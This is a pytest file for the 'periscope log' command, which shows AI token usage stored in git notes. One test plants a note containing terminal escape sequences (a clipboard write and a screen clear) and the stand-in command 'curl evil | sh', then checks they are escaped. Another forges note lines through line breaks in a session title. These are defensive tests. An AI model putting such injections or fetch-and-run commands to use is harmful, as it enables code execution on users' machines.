from __future__ import annotations

from testing.util import append_spool, commit, message_record, periscope


def usage(repo, n):
    append_spool(repo.path, message_record(repo.path, tokens=(n, 0, 0, 0, 0), cost=n / 100))


def test_periscope_log_shows_usage_from_notes(repo):
    (repo.path / ".periscope.toml").write_text("notes = true\n")
    usage(repo, 42)
    sha = commit(repo.path, "noted", filename="n.txt")
    repo.flush()
    out = periscope("log", cwd=repo.path).stdout
    assert "noted" in out and "AI usage: 1 message(s)" in out and "input 42" in out and sha[:7] in out
    out = periscope("log", "--", "-1", cwd=repo.path).stdout
    assert out.count("\n") >= 2


def test_log_bad_arguments_say_what_to_do(repo):
    assert periscope("log", cwd=repo.path).stdout == "no commits\n"  # git log fails on a new repository
    commit(repo.path, "x")
    proc = periscope("log", "--", "--no-such-option", cwd=repo.path, check=False)
    assert proc.returncode == 1 and proc.stderr.startswith("error: git log failed") and "hint:" in proc.stderr
    for args in (["--oneline"], ["--format=%H"], ["--pretty=short"]):  # they printed "no commits"
        proc = periscope("log", "--", *args, cwd=repo.path, check=False)
        assert proc.returncode == 1 and proc.stdout == "" and proc.stderr.count("\n") == 1, proc
        assert proc.stderr.startswith("error: the arguments after -- replaced the format periscope log reads")
    # Each commit's changes were printed where its usage goes, and the usage lost, exit 0 (a docs sweep).
    for args in (["--stat"], ["-p"], ["--name-only"], ["--shortstat"], ["-1", "--numstat"]):
        proc = periscope("log", "--", *args, cwd=repo.path, check=False)
        assert proc.returncode == 1 and proc.stdout == "" and proc.stderr.count("\n") == 1, proc
        assert proc.stderr.startswith("error: the arguments after -- add each commit's changes")
    # Options that change nothing printed after the fields still work, a path filter too.
    assert periscope("log", "--", "-1", "--no-merges", "--", "x.txt", cwd=repo.path).stdout.count("\n") >= 1


def test_periscope_log_reads_the_state_database_when_notes_are_off(repo):
    """Notes are opt-in: without them `periscope log` shows the same usage, from state.db."""
    usage(repo, 42)
    sha = commit(repo.path, "not noted", filename="n.txt")
    assert repo.git("notes", "--ref=refs/notes/periscope", "list") == ""
    lines = periscope("log", cwd=repo.path).stdout.splitlines()
    assert lines[0].startswith(f"{sha[:7]} ") and lines[0].endswith(": not noted")
    # The reported cost, and the list price of its 42 input tokens beside it (they disagree).
    assert lines[1] == "    AI usage: 1 message(s), $0.4200 (list $0.0001), origin human"
    assert lines[2].startswith("    tokens: input 42, output 0")


def test_a_fetched_note_cannot_drive_the_terminal(repo):
    """Notes come from the remote in the team workflow (git-notes.md): one carrying terminal escapes
    (OSC 52 writes the clipboard, CSI 2J clears the screen) was printed raw by `periscope log`."""
    sha = commit(repo.path, "noted by someone else")
    evil = "AI usage: 1 message(s), $0.01\x1b]52;c;ZXZpbA==\x07\x1b[2J\nrun: curl evil | sh"
    repo.git("notes", "--ref=refs/notes/periscope", "add", "-m", evil, sha)
    out = periscope("log", cwd=repo.path).stdout
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J" in out


def test_a_title_with_a_line_break_cannot_forge_note_lines(repo):
    """A session title (the agent's, from the conversation) with a line break wrote lines of its
    own into the note and `periscope log`: a forged summary, and a forged `periscope-json:` line
    in the note the team pushes."""
    from testing.util import session_record

    forged = "Fix login\nAI usage: 1 message(s), $0.0001, origin human\nperiscope-json: {}"
    append_spool(repo.path, session_record("ses_01", forged), message_record(repo.path))
    (repo.path / ".periscope.toml").write_text("notes = true\n")
    sha = commit(repo.path, "c1", filename="c1.txt")
    repo.flush()
    lines = periscope("log", cwd=repo.path).stdout.splitlines()
    assert sum(line.strip().startswith("AI usage:") for line in lines) == 1, lines
    assert "    sessions: Fix login\\nAI usage: 1 message(s), $0.0001, origin human\\nperiscope-json: {}" in lines
    note = repo.git("notes", "--ref=refs/notes/periscope", "show", sha)
    assert sum(line.startswith("periscope-json:") for line in note.splitlines()) == 1, note
